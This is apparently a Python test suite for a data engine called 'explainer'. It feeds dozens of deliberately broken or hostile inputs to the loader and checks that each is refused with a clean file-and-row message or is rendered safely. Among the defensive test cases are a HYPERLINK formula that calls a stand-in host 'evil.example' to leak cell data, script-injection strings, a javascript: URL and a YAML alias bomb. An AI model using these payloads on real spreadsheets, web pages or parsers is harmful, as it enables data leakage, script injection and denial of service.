"""The clean-error contract, over many broken inputs: every input either loads and then
renders (map, linked view, export), or is refused with `FILE:ROW: field: message`
problems that name the file. Nothing raises anything else, nothing hangs.
"""

from __future__ import annotations

import os
import re
import string
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import explainer
from explainer import DataError
from explainer.surfaces._export import export
from explainer.views._moments import view_spec
from explainer.views._table import membership_csv

from .conftest import TINY, copy_project

PROBLEM = re.compile(r"^(?P<file>[^:]+):(?P<row>\d+): (?P<field>[^:]+): (?P<message>.+)$", re.S)

Mutation = Callable[[Path], object]  # what it returns is not used


def edit(name: str, old: str, new: str) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        text = path.read_text(encoding="utf-8")
        assert old in text, f"fixture drifted: {old!r} not in {name}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return apply


def write(name: str, content: str | bytes) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")

    return apply


def remove(name: str) -> Mutation:
    return lambda root: (root / name).unlink()


def prepend(name: str, text: str) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        path.write_text(text + path.read_text(encoding="utf-8"), encoding="utf-8")

    return apply


def billion_laughs() -> str:
    lines = ['a0: &a0 "lol"']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [{', '.join(f'*a{i - 1}' for _ in range(10))}]")
    return "\n".join(lines) + "\n"


def deep(levels: int) -> str:
    return "- " + "[" * levels + "]" * levels + "\n"


GEOMETRY = "geometry/countries.geojson"
LIST = "membership/2021-12-31.csv"  # the last list: a change to it cascades to no later one
LIST_META = "membership/2021-12-31.meta.yml"
STORY = "../story.yml"


def latin1(name: str, old: str, new: str) -> Mutation:
    """Write ``name`` in Latin-1 with ``new`` (which has a letter outside ASCII) for ``old``."""

    def apply(root: Path) -> None:
        path = root / name
        text = path.read_text(encoding="utf-8")
        assert old in text, f"fixture drifted: {old!r} not in {name}"
        path.write_bytes(text.replace(old, new, 1).encode("latin-1"))

    return apply


def append(name: str, text: str) -> Mutation:
    def apply(root: Path) -> None:
        with (root / name).open("a", encoding="utf-8") as file:
            file.write(text)

    return apply


# id -> (mutation, expected), expected being None when the input is acceptable, else
# "FILE :: TEXT": a problem of FILE says TEXT (the rule the case is about), or just FILE.
MUTATIONS: dict[str, tuple[Mutation, str | None]] = {
    # sources.csv
    "source-empty-swedish-short": (edit("sources.csv", "launch-list,Launch list,Lanseringslistan,", "launch-list,Launch list,,"), "sources.csv :: short_sv: required, but missing or empty"),
    # tiny's sources are each cited many times: a second row takes the id (renaming a row
    # would leave its citations dangling, a cascade beyond the mistake)
    "source-duplicate-id": (append("sources.csv", "later-list,Another list,En annan lista,Example Publisher,Example Publisher,Another list,,,2021-02,https://example.org/another,en,original,,,,,\n"), "sources.csv :: id: 'later-list' is not unique"),
    "source-javascript-url": (edit("sources.csv", "https://example.org/launch", "javascript:alert(1)"), "sources.csv :: url: must be a web address starting with http:// or https://"),
    "source-unknown-language": (edit("sources.csv", "https://example.org/launch,en,", "https://example.org/launch,zz,"), "sources.csv :: language: 'zz' is not an ISO 639 language code"),
    "source-unknown-kind": (edit("sources.csv", "example.org/launch,en,original", "example.org/launch,en,blog"), "sources.csv :: kind: Input should be 'original'"),
    "source-impossible-date": (edit("sources.csv", "The launch list,,,2020-01-01", "The launch list,,,2020-02-30"), "sources.csv :: date_published: '2020-02-30' is not a valid date"),
    "source-shared-short-name": (edit("sources.csv", "later-list,Later list,", "later-list,Launch list,"), "sources.csv :: short_en: 'Launch list' names more than one source"),
    "source-missing-column": (edit("sources.csv", "id,short_en,short_sv,", "id,short_en,"), "sources.csv :: short_sv: column missing from the header"),
    "source-extra-column": (edit("sources.csv", ",doc_code,note", ",doc_code,note,colour"), "sources.csv :: (header): unknown column 'colour'"),
    "source-semicolons": (write("sources.csv", "id;short_en;short_sv;publisher_en\nx;y;z;w\n"), "sources.csv :: (header): columns are separated by semicolons"),
    "source-byte-order-mark": (prepend("sources.csv", "\ufeff"), None),
    "source-huge-cell": (edit("sources.csv", "The launch list", "x" * 30_000), "sources.csv :: title: longer than 20,000 characters"),
    "source-control-character": (edit("sources.csv", "The launch list", "The\x07launch list"), "sources.csv :: title: contains a line break or another control character"),
    "source-too-many-cells": (edit("sources.csv", "example.org/launch,en,original,,,,,", "example.org/launch,en,original,,,,,,extra"), "sources.csv :: (row): more cells than columns"),
    # a quoted cell whose closing quote is lost, so that it runs on to the next quote in
    # the row (tiny quotes no cell: this row gets a quoted remark, and its title loses
    # the closing quote)
    "source-unclosed-quote": (edit("sources.csv", "The launch list,,,2020-01-01,https://example.org/launch,en,original,,", '"The launch list,,,2020-01-01,https://example.org/launch,en,original,,"A remark."'), "sources.csv :: (row): cannot read as CSV: ',' expected after '\"'"),
    # tiny's files are ASCII: the Latin-1 copy gets a letter outside it
    "source-not-utf8": (latin1("sources.csv", "Lanseringslistan", "Lanseringslistan för 2020"), "sources.csv :: (file): not UTF-8 text"),
    "source-file-missing": (remove("sources.csv"), "sources.csv :: (file): file not found"),
    "source-file-empty": (write("sources.csv", ""), "sources.csv :: (header): the file is empty"),
    "source-file-too-big": (write("sources.csv", "id\n" + "x" * 3_000_000 + "\n"), "sources.csv :: (file): 3,000,004 bytes; at most 2,000,000 are read"),
    # countries.csv
    "country-unknown-code": (edit("countries.csv", "ISL,Iceland,Island,", "ISX,Iceland,Island,"), "countries.csv :: iso3: unknown ISO 3166-1 alpha-3 code 'ISX'"),
    "country-name-with-line-break": (edit("countries.csv", "ISL,Iceland,Island,", 'ISL,"Ice\nland",Island,'), "countries.csv :: name_en: contains a line break or another control character"),
    "country-eu-maybe": (edit("countries.csv", "SWE,Sweden,Sverige,yes", "SWE,Sweden,Sverige,maybe"), "countries.csv :: eu: 'maybe' must be yes or no"),
    "country-eu-from-outside-eu": (edit("countries.csv", "NOR,Norway,Norge,no,", "NOR,Norway,Norge,no,2020-01-01"), "countries.csv :: (record): the group's date is set but the country is not in the group"),
    "country-formula-name": (edit("countries.csv", "SWE,Sweden,Sverige,", 'SWE,"=HYPERLINK(""http://evil.example/?""&A1,""Sweden"")",Sverige,'), None),
    "country-half-a-note": (edit("countries.csv", "SWE,Sweden,Sverige,yes,,launch-list,,", "SWE,Sweden,Sverige,yes,,launch-list,A note,"), "countries.csv :: note_sv: required, but missing or empty"),
    "country-duplicate": (edit("countries.csv", "NOR,Norway", "SWE,Norway"), "countries.csv :: iso3: 'SWE' is not unique"),
    "country-without-a-shape": (append("countries.csv", "ATA,Antarctica,Antarktis,no,,launch-list,,\n"), "countries.csv :: iso3: no shape for ATA in geometry/countries.geojson"),
    # membership lists and changes
    "list-duplicate-member": (edit(LIST, "ISL,Iceland", "ISL,Iceland\nISL,Iceland"), f"{LIST} :: iso3: ISL is listed more than once"),
    "list-country-not-in-countries": (edit(LIST, "ISL,Iceland", "EST,Estonia"), f"{LIST} :: iso3: EST is not in countries.csv"),
    # rules across lists and changes, each on its boundary (the cases make mutation found open)
    "list-stated-in-group-wrong": (edit("membership/2020-01-01.meta.yml", "stated_in_group: 1", "stated_in_group: 2"), "membership/2020-01-01.meta.yml :: stated_in_group: the list says 2 but membership/2020-01-01.csv has 1"),
    "list-stated-outside-group-wrong": (edit("membership/2020-01-01.meta.yml", "stated_outside_group: 2", "stated_outside_group: 1"), "membership/2020-01-01.meta.yml :: stated_outside_group: the list says 1 but membership/2020-01-01.csv has 2"),
    "list-source-unknown": (edit("membership/2020-01-01.meta.yml", "sources: [launch-list]", "sources: [no-such-source]"), "membership/2020-01-01.meta.yml :: sources: unknown source 'no-such-source'"),
    "country-group-source-unknown": (edit("countries.csv", "FIN,Finland,Finland,yes,2020-05-01,launch-list", "FIN,Finland,Finland,yes,2020-05-01,no-such-source"), "countries.csv :: eu_sources: unknown source 'no-such-source'"),
    "quote-translation-source-unknown": (append("quotes.yml", "  translations:\n    - language: sv\n      translator: {en: Someone, sv: Någon}\n      text: Vi börjar.\n      sources: [no-such-source]\n"), "quotes.yml :: translations.0.sources: unknown source 'no-such-source'"),
    "change-on-the-earlier-list-day": (lambda root: [edit("membership/undated.csv", "DNK,joined,2020-01-01,2021-01-31,,later-list,\n", "")(root), append("membership/changes.csv", "2020-01-01,DNK,joined,later-list,\n")(root)], "membership/2021-01-31.csv :: DNK is new since membership/2020-01-01.csv but neither"),
    "change-on-the-later-list-day": (lambda root: [edit("membership/undated.csv", "DNK,joined,2020-01-01,2021-01-31,,later-list,\n", "")(root), append("membership/changes.csv", "2021-01-31,DNK,joined,later-list,\n")(root)], None),
    "undated-bounds-not-those-lists": (edit("membership/undated.csv", "DNK,joined,2020-01-01,2021-01-31", "DNK,joined,2020-01-01,2021-12-31"), "membership/2021-01-31.csv :: DNK is new since membership/2020-01-01.csv but neither"),
    "list-stated-total-wrong": (edit(LIST_META, "stated_total: 3", "stated_total: 4"), f"{LIST_META} :: stated_total: the list says 4 but {LIST} has 3"),
    "list-date-not-the-file-name": (edit(LIST_META, "date: 2021-12-31", "date: 2021-12-30"), f"{LIST_META} :: date: must match the file name"),
    "list-meta-without-origin": (edit(LIST_META, "origin:", "source_info:"), f"{LIST_META} :: origin: required, but missing or empty"),
    "list-meta-not-yaml": (write(LIST_META, "date: [2021\n"), f"{LIST_META} :: (yaml): not valid YAML"),
    # questionable input the 2 December review found accepted, now refused
    "country-name-line-separator": (edit("countries.csv", "SWE,Sweden,", "SWE,Swe\u2028den,"), "countries.csv :: name_en: contains a line break or another control character"),
    # tiny's events have no place: the place comes with the mistake
    "event-place-bidi-override": (edit("events.yml", "  precision: day\n  title: {en: Launch,", "  precision: day\n  place: {en: \"Lau\u202ench site\", sv: Lanseringsplatsen}\n  title: {en: Launch,"), "events.yml :: place.en: contains a line break or another control character"),
    "source-csv-ends-inside-a-quote": (append("sources.csv", 'x,"never closed\n'), "sources.csv :: (row): cannot read as CSV: unexpected end of data"),
    "change-date-with-a-time-zone": (edit("membership/changes.csv", "2020-06-01,ISL", "2020-06-01T00:00:00Z,ISL"), "membership/changes.csv :: date: '2020-06-01T00:00:00Z' is not a day (YYYY-MM-DD)"),
    "list-meta-total-yes": (edit(LIST_META, "stated_total: 3", "stated_total: yes"), f"{LIST_META} :: stated_total: True is not a whole number"),
    "list-meta-total-a-float": (edit(LIST_META, "stated_total: 3", "stated_total: 3.0"), f"{LIST_META} :: stated_total: 3.0 is not a whole number"),
    "list-meta-total-as-text": (edit(LIST_META, "stated_total: 3", "stated_total: '3e0'"), f"{LIST_META} :: stated_total: '3e0' is not a whole number (digits only)"),
    "event-yaml-tag": (edit("events.yml", "  date: 2021-01\n", "  date: !!binary aGVsbG8=\n"), "events.yml :: (yaml): not valid YAML: tags (tag:yaml.org,2002:binary) are not allowed"),
    "event-yaml-tag-on-text": (edit("events.yml", "  date: 2021-01\n", "  date: !!str 2021-01\n"), "events.yml :: (yaml): not valid YAML: tags (tag:yaml.org,2002:str) are not allowed"),
    "view-scale-as-text": (edit(STORY, "scale: 2}", "scale: '2'}"), "story.yml :: map.views.1.scale: '2' is not a number"),
    "list-meta-without-its-list": (write("membership/2020-06-30.meta.yml", "date: 2020-06-30\n"), "membership/2020-06-30.meta.yml :: (file): describes a list that is not here (2020-06-30.csv)"),
    "change-impossible-month": (edit("membership/changes.csv", "2020-06-01,ISL", "2020-13-01,ISL"), "membership/changes.csv :: date: Input should be a valid date or datetime, month value is outside expected range"),
    "change-unknown-kind": (edit("membership/changes.csv", "ISL,joined", "ISL,paused"), "membership/changes.csv :: change: Input should be 'joined' or 'left'"),
    "undated-bounds-reversed": (edit("membership/undated.csv", "DNK,joined,2020-01-01,2021-01-31", "DNK,joined,2021-01-31,2020-01-01"), "membership/undated.csv :: (record): not_after must be later than not_before"),
    "undated-bound-not-a-list": (edit("membership/undated.csv", "DNK,joined,2020-01-01", "DNK,joined,2020-01-02"), "membership/undated.csv :: not_before: must be the date of a membership list"),
    "count-named-many": (edit("membership/counts.csv", "2020-09,3,none", "2020-09,3,many"), "membership/counts.csv :: named: Input should be 'none', 'some' or 'all'"),
    "count-negative": (edit("membership/counts.csv", "2020-09,3,", "2020-09,-3,"), "membership/counts.csv :: count: '-3' is not a whole number (digits only)"),
    # events.yml
    "event-impossible-unquoted-date": (edit("events.yml", "date: 2020-06-01", "date: 2020-02-30"), "events.yml :: date: '2020-02-30' is not a valid date"),
    "event-month-thirteen": (edit("events.yml", "date: 2020-06-01", "date: 2020-13-01"), "events.yml :: date: '2020-13-01' is not a valid date (month must be in 1..12)"),
    "event-precision-mismatch": (edit("events.yml", "date: 2020-06-01\n  precision: day", "date: 2020-06-01\n  precision: month"), "events.yml :: (record): precision is month but the date 2020-06-01 is known to the day"),
    "event-missing-swedish-title": (edit("events.yml", "{en: Iceland joins, sv: Island ansluter sig}", "{en: Iceland joins}"), "events.yml :: title.sv: required, but missing or empty"),
    "event-duplicate-id": (edit("events.yml", "- id: iceland", "- id: launch"), "events.yml :: id: 'launch' is not unique"),
    "event-alias-bomb": (write("events.yml", billion_laughs()), "events.yml :: (yaml): not valid YAML: aliases (*name) are not allowed"),
    "event-duplicate-key": (edit("events.yml", "- id: iceland\n", "- id: iceland\n  id: iceland-2\n"), "events.yml :: (yaml): not valid YAML: the key 'id' appears twice"),
    "event-deep-nesting": (write("events.yml", deep(5000)), "events.yml :: (yaml): not valid YAML: exceeded maximum nesting depth"),
    "event-file-empty": (write("events.yml", ""), "events.yml :: (file): needs at least one event"),
    "event-only-comments": (write("events.yml", "# nothing yet\n"), "events.yml :: (file): needs at least one event"),
    "event-empty-list": (write("events.yml", "[]\n"), "events.yml :: (file): needs at least one event"),
    "event-not-a-list": (write("events.yml", "id: launch\n"), "events.yml :: (file): must be a list of records"),
    "event-tab-indentation": (edit("events.yml", "  precision: month", "\tprecision: month"), "events.yml :: (yaml): not valid YAML: found a tab character"),
    "event-hostile-title": (edit("events.yml", "title: {en: Launch,", 'title: {en: "<script>alert(1)</script></script><img src=x onerror=alert(2)>",'), None),
    "event-date-a-list": (edit("events.yml", "date: 2020-06-01", "date: [2020, 6, 1]"), "events.yml :: date: '[2020, 6, 1]' is not a date like"),
    "event-unknown-source": (edit("events.yml", "sources: [launch-list]", "sources: [no-such-source]"), "events.yml :: sources: unknown source 'no-such-source' (sources.csv)"),
    # quotes.yml and targets
    "quote-unknown-event": (edit("quotes.yml", "event: launch", "event: launch-2020"), "quotes.yml :: event: no event 'launch-2020'"),
    # tiny's quote has no translation: the mistake adds one, into the quote's own language
    "quote-translated-into-its-own-language": (append("quotes.yml", "  translations:\n    - language: en\n      translator: {en: Someone, sv: Någon}\n      text: We start.\n      sources: [launch-list]\n"), "quotes.yml :: (record): a translation into en, the quote's own language"),
    "quote-impossible-date": (edit("quotes.yml", "date: 2020-01-01", "date: 2020-02-30"), "quotes.yml :: date: Input should be a valid date or datetime, day value is outside expected range"),
    "quote-nul-character": (edit("quotes.yml", "We begin.", "We\x00 begin."), "quotes.yml :: (yaml): not valid YAML: unacceptable character #x0000"),
    "quote-escaped-bell": (edit("quotes.yml", "  speaker: A. Speaker", '  speaker: "A.\\a Speaker"'), "quotes.yml :: speaker: contains a line break or another control character"),
    "targets-meta-alias-bomb": (append("targets.meta.yml", "note_bomb:\n" + "".join("  " + line + "\n" for line in billion_laughs().splitlines())), "targets.meta.yml :: (yaml): not valid YAML: aliases (*name) are not allowed"),
    "targets-meta-without-swedish": (edit("targets.meta.yml", "  sv: {source: launch-list", "  de: {source: launch-list"), "targets.meta.yml :: (record): wording_source needs sv"),
    # .meta.yml files
    "events-meta-missing": (remove("events.meta.yml"), "events.meta.yml :: (file): file not found"),
    "countries-meta-not-yaml": (write("countries.meta.yml", "origin: {producer: [\n"), "countries.meta.yml :: (yaml): not valid YAML"),
    # tiny's quotes.meta.yml has no caveats: they come with the mistake
    "quotes-meta-caveats-not-a-list": (append("quotes.meta.yml", "caveats: no\n"), "quotes.meta.yml :: caveats: Input should be a valid list"),
    "sources-meta-bad-url": (edit("sources.meta.yml", "  language: en", "  language: en\n  url_main: ftp://example.org"), "sources.meta.yml :: origin.url_main: String should match pattern"),
    # map views
    "view-nan-centre": (edit(STORY, "centre: [1, 50.5]", "centre: [.nan, 50.5]"), "story.yml :: map.views.1.centre.0: Input should be greater than or equal to -180"),
    "view-list-empty": (edit(STORY, "  views:\n", "  views: []\n  old_views:\n"), "story.yml :: map.views: List should have at least 1 item"),
    "view-scale-zero": (edit(STORY, "scale: 2}", "scale: 0}"), "story.yml :: map.views.1.scale: Input should be greater than or equal to 1"),
    # story.yml
    "story-file-empty": (write(STORY, ""), "story.yml :: (file): is empty; it must be a mapping of field: value"),
    "story-not-yaml": (write(STORY, "title: {en: [\n"), "story.yml :: (yaml): not valid YAML"),
    "story-language-unknown": (edit(STORY, "code: sv, name: Svenska", "code: xx, name: Svenska"), "story.yml :: languages.1.code: 'xx' is not a language Babel knows"),
    "story-home-notebook-missing-language": (edit(STORY, ", sv: story-sv.ipynb}", "}"), "story.yml :: notebooks.home: no home notebook for sv"),
    "story-language-twice": (edit(STORY, "code: sv, name: Svenska", "code: en, name: Svenska"), "story.yml :: languages: 'en' is listed twice"),
    # tiny's story.yml has statuses of its own: the mistakes go into them (a second
    # `statuses:` would be a duplicate key, another rule)
    "story-status-width-bomb": (edit(STORY, '"Acceded on {date}"', '"Acceded on {date:>99999999}"'), "story.yml :: statuses.joined.detail: {date:>99999999} is no placeholder"),
    "story-status-conversion": (edit(STORY, '"Acceded on {date}"', '"Acceded on {date!r}"'), "story.yml :: statuses.joined.detail: {date!r} is no placeholder"),
    "story-key-with-a-colon": (append(STORY, '"a:b": 1\n'), "story.yml :: (field): 'a:b': unknown field"),
    "source-column-with-a-colon": (edit("sources.csv", "id,short_en", ":id,short_en"), "sources.csv :: (header): unknown column ':id'"),
    "story-group-unknown-field": (edit(STORY, "  id: eu\n", "  id: eu\n  colour: blue\n"), "story.yml :: group.colour: unknown field"),
    # story.yml on its boundaries: each entry that must be unique given twice, each value just outside its set
    "story-record-set-twice": (edit(STORY, "records:\n", "records:\n  - {id: targets, file: goals.yml, name: {en: a, sv: b}, label: {en: a, sv: b}}\n"), "story.yml :: two record sets have the id 'targets'"),
    "story-record-file-twice": (edit(STORY, "records:\n", "records:\n  - {id: goals, file: targets.yml, name: {en: a, sv: b}, label: {en: a, sv: b}}\n"), "story.yml :: two record sets have the file 'targets.yml'"),
    "story-record-file-of-the-engine": (edit(STORY, "    file: targets.yml", "    file: events.yml"), "story.yml :: records.0.file: events.yml is a file of the engine's own"),
    "story-record-file-missing": (edit(STORY, "    file: targets.yml", "    file: goals.yml"), "goals.yml :: (file): file not found"),
    "story-record-file-not-yml": (edit(STORY, "    file: targets.yml", "    file: targets.yaml"), "story.yml :: records.0.file: String should match pattern"),
    "story-language-upper-case": (edit(STORY, "code: sv, name: Svenska", "code: SV, name: Svenska"), "story.yml :: languages.1.code: 'SV' is not a language code"),
    "story-status-unknown-kind": (edit(STORY, "statuses:\n", "statuses:\n  joind:\n    name: {en: a, sv: b}\n"), "story.yml :: statuses.joind.[key]: Input should be 'founding'"),
    "story-view-twice": (edit(STORY, "id: close", "id: world"), "story.yml :: map.views: two views have the same id"),
    "story-view-scale-just-above": (edit(STORY, "scale: 2}", "scale: 50.5}"), "story.yml :: map.views.1.scale: Input should be less than or equal to 50"),
    "story-view-scale-just-below": (edit(STORY, "scale: 2}", "scale: 0.99}"), "story.yml :: map.views.1.scale: Input should be greater than or equal to 1"),
    "story-download-not-csv": (edit(STORY, "download_name: tiny-membership.csv", "download_name: membership.txt"), "story.yml :: download_name: String should match pattern"),
    # geometry
    "geometry-two-point-ring": (lambda root: _geometry(root, "FIN", {"type": "Polygon", "coordinates": [[[6, 50], [7, 50]]]}), f"{GEOMETRY} :: features[3]: not a country shape with properties.iso3: A linearring requires at least 4 coordinates"),
    "geometry-null": (lambda root: _geometry(root, "FIN", None), f"{GEOMETRY} :: features[3]: not a country shape with properties.iso3"),
    "geometry-point": (lambda root: _geometry(root, "FIN", {"type": "Point", "coordinates": [6.5, 50.5]}), f"{GEOMETRY} :: features[3] (FIN): a Point, not a Polygon or MultiPolygon"),
    "geometry-out-of-range": (lambda root: _geometry(root, "FIN", {"type": "Polygon", "coordinates": [[[400, 35], [401, 35], [401, 36], [400, 35]]]}), f"{GEOMETRY} :: features[3] (FIN): has coordinates outside longitude -180..180, latitude -90..90"),
    "geometry-not-json": (write(GEOMETRY, "{not json"), f"{GEOMETRY} :: (file): not a GeoJSON FeatureCollection"),
    "geometry-iso3-a-number": (lambda root: _geometry(root, "FIN", "keep", code=246), f"{GEOMETRY} :: features[3]: not a country shape with properties.iso3: iso3 is 246, not a code or null"),
    "geometry-missing": (remove(GEOMETRY), f"{GEOMETRY} :: (file): file not found"),
}  # fmt: skip


def _geometry(root: Path, iso3: str, geometry: object, code: object = None) -> None:
    import json

    path = root / GEOMETRY
    collection = json.loads(path.read_text(encoding="utf-8"))
    for feature in collection["features"]:
        if feature["properties"]["iso3"] == iso3:
            if geometry != "keep":
                feature["geometry"] = geometry
            if code is not None:
                feature["properties"]["iso3"] = code
    path.write_text(json.dumps(collection), encoding="utf-8")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the engine's test story (story.yml, data/, notebooks/) to break."""
    return copy_project(TINY, tmp_path / "story")


def test_there_are_enough_distinct_mutations() -> None:
    assert len(MUTATIONS) >= 60
    assert sum(expected is None for _, expected in MUTATIONS.values()) >= 3


def assert_clean_refusal(error: DataError, data: Path, expected: str) -> None:
    assert error.problems, "a refusal names at least one problem"
    for problem in error.problems:
        match = PROBLEM.match(str(problem))
        assert match, str(problem)
        assert "Traceback" not in str(problem)
    # "FILE :: TEXT": the problem of that file says TEXT (so no other rule stands in).
    file, _, says = expected.partition(" :: ")
    found = [str(p) for p in error.problems if p.file == file]
    assert found, (expected, [str(p) for p in error.problems])
    assert any(says in text for text in found), (expected, found)
    assert len(error.problems) <= 12, "one mistake, a few lines: no cascade"


@pytest.mark.parametrize("name", sorted(MUTATIONS))
def test_every_input_is_refused_cleanly_or_renders(project: Path, name: str) -> None:
    mutate, expected = MUTATIONS[name]
    data = project / "data"
    mutate(data)
    try:
        dataset = explainer.load_dataset(data)
    except DataError as error:
        assert expected is not None, f"{name} should load: {error}"
        assert_clean_refusal(error, data, expected)
        return
    assert expected is None, f"{name} was accepted"
    for lang in ("en", "sv"):
        view_spec(dataset, lang)
    page = export(project / "site", "en", project).read_text(encoding="utf-8")
    assert (
        "<script>alert(1)</script>"
        not in page.replace("\\u003c", "<").split("data-explainer-view")[0]
    ), "hostile text stays escaped outside the JSON island"
    if name == "event-hostile-title":  # the check above must have something to look at
        assert "alert(1)" in page, "the hostile title reaches the page"
        assert "<script>alert(1)" not in page and "<img src=x" not in page, "escaped everywhere"
    if name == "country-formula-name":
        assert "'=HYPERLINK" in membership_csv(dataset)


def test_a_read_error_is_a_problem(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = Path.read_bytes

    def failing(self: Path) -> bytes:
        if self.name == "quotes.yml":
            raise OSError(5, "Input/output error")
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", failing)
    with pytest.raises(DataError) as caught:
        explainer.load_dataset(project / "data")
    assert [str(p) for p in caught.value.problems] == [
        "quotes.yml:0: (file): cannot be read: Input/output error"
    ]


FILES = ["sources.csv", "countries.csv", "events.yml", "quotes.yml", "targets.yml",
         STORY, LIST, "membership/undated.csv", "membership/changes.csv",
         "membership/counts.csv", "targets.meta.yml", "membership/2020-01-01.meta.yml"]  # fmt: skip
NOISE = st.text(alphabet=string.printable + "åäö–”\u0000\ufeff&*:-[]{}#|>", max_size=40)


@settings(
    max_examples=int(os.environ.get("EXPLAINER_DAMAGE_EXAMPLES", "60")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=st.sampled_from(FILES), where=st.floats(0, 1), cut=st.integers(0, 30), noise=NOISE)
def test_random_damage_never_escapes_the_contract(
    tmp_path_factory: pytest.TempPathFactory, name: str, where: float, cut: int, noise: str
) -> None:
    data = copy_project(TINY, tmp_path_factory.mktemp("damaged") / "story") / "data"
    path = data / name
    text = path.read_text(encoding="utf-8")
    at = int(where * len(text))
    path.write_text(text[:at] + noise + text[at + cut :], encoding="utf-8")
    try:
        dataset = explainer.load_dataset(data)
    except DataError as error:
        assert all(PROBLEM.match(str(p)) for p in error.problems)
        return
    for lang in ("en", "sv"):
        view_spec(dataset, lang)


def test_validate_command_never_prints_a_traceback(project: Path) -> None:
    import subprocess
    import sys

    MUTATIONS["event-alias-bomb"][0](project / "data")
    result = subprocess.run(
        [sys.executable, "-m", "explainer", "validate", "--data", str(project / "data")],
        capture_output=True, text=True, check=False, timeout=60,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )  # fmt: skip
    assert result.returncode == 1
    where, first = result.stderr.splitlines()[:2]
    assert where == f"in {project / 'data'}:"
    assert first.startswith("events.yml:")
    assert "Traceback" not in result.stderr and "aliases" in result.stderr


def _one_huge_cell(root: Path) -> None:
    path = root / "sources.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[1] += "x" * 1_000_000
    path.write_text("\n".join(lines), encoding="utf-8")


def _folder_for_a_file(name: str) -> Mutation:
    def apply(root: Path) -> None:
        (root / name).unlink()
        (root / name).mkdir()

    return apply


CULPRITS: dict[str, tuple[Mutation, str]] = {
    "a 1 MB cell in sources.csv": (_one_huge_cell, "sources.csv"),
    "sources.csv separated by semicolons": (
        lambda root: (root / "sources.csv").write_text(
            (root / "sources.csv").read_text(encoding="utf-8").replace(",", ";"), "utf-8"
        ),
        "sources.csv",
    ),
    "countries.csv separated by semicolons": (
        lambda root: (root / "countries.csv").write_text(
            (root / "countries.csv").read_text(encoding="utf-8").replace(",", ";"), "utf-8"
        ),
        "countries.csv",
    ),
    "countries.csv unreadable (a folder)": (_folder_for_a_file("countries.csv"), "countries.csv"),
    "events.yml not a list": (write("events.yml", "id: one\n"), "events.yml"),
    "a country's shape with a coordinate as text": (
        lambda root: _geometry(root, "FIN", {"type": "Polygon", "coordinates": [[[6, "50"], [7, 50], [7, 51], [6, 50]]]}),
        GEOMETRY,
    ),
    "a country's shape that is not valid": (
        lambda root: _geometry(root, "FIN", {"type": "Polygon", "coordinates": [[[6, 50], [7, 50]]]}),
        GEOMETRY,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(CULPRITS))
def test_a_file_that_cannot_be_read_is_blamed_alone(project: Path, name: str) -> None:
    """References into a broken file are not checked: its one problem, not hundreds."""
    mutate, culprit = CULPRITS[name]
    mutate(project / "data")
    with pytest.raises(DataError) as caught:
        explainer.load_dataset(project / "data")
    problems = [str(p) for p in caught.value.problems]
    assert 1 <= len(problems) <= 5, problems
    assert {p.file for p in caught.value.problems} == {culprit}, problems
